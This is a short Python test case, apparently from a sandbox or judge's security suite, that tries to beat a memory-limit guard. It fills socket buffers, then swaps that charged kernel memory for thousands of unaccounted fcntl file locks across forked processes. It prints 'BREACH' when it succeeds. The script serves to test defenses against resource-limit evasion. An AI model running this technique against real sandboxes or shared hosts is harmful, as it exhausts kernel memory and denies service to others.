# attack: gives messages back that are charged to it while it takes file locks, so that the kernel holds no more than before
# guards: keeper/locks
# breaks: keeper/locks
# expect: MLE memory
import fcntl
import os
import signal
import socket
import struct
import time

PROCESSES, PAIRS, FILES, LOCKS = 2, 60, 4, 450

request = [struct.pack("hhqqi4x", fcntl.F_WRLCK, os.SEEK_SET, 2 * number, 1, 0) for number in range(LOCKS)]
full, tell_full = os.pipe()
begin, tell_to_begin = os.pipe()
ready, tell_ready = os.pipe()


def fill(end):
    """Each message of one byte takes as much of the kernel's memory as three or four locks."""
    end.setblocking(False)
    try:
        while True:
            end.send(b"x")
    except BlockingIOError:
        pass


def hide():
    pairs = [socket.socketpair() for _ in range(PAIRS)]
    for ends in pairs:
        for end in ends:
            fill(end)
    os.write(tell_full, b"x")
    os.read(begin, 1)
    for ends in pairs:
        for end in ends:
            end.close()
        for _ in range(FILES):
            file = os.memfd_create("locks")
            for lock in request:
                fcntl.fcntl(file, fcntl.F_SETLK, lock)
    os.write(tell_ready, b"x")
    signal.pause()


def wait_for_all(end):
    done = 0
    while done < PROCESSES:
        done += len(os.read(end, PROCESSES))


for _ in range(PROCESSES):
    if os.fork() == 0:
        hide()
wait_for_all(full)
# What has grown until here is seen, and no lock.
time.sleep(0.5)
os.write(tell_to_begin, b"x" * PROCESSES)
wait_for_all(ready)
# Long enough to be seen.
time.sleep(1.5)
print("BREACH", PROCESSES * PAIRS * FILES * LOCKS, "locks")
